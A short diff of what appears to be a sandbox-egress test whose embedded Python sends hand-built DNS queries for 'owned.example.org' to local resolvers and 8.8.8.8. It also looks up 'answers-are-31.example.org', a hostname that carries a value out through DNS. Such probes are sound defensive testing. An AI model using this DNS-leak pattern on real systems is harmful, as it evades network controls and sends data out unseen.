@@ -57,11 +57,6 @@ attack(
     """
     import socket, struct
     ex01_output_size = 31
-    socket.setdefaulttimeout(1)
-    try:
-        print(socket.getaddrinfo("answers-are-31.example.org", 80))
-    except OSError as error:
-        print(error)
     query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\\x05owned\\x07example\\x03org\\0" + struct.pack(">2H", 1, 1)
     servers = ["127.0.0.1", "127.0.0.53", "8.8.8.8"]
     try:
@@ -75,6 +70,10 @@ attack(
                 s.sendto(query, (server, port))
             except OSError:
                 pass
+    try:  # last: where no name server answers, this waits for long
+        print(socket.getaddrinfo("answers-are-31.example.org", 80))
+    except OSError as error:
+        print(error)
 """,
 )
 
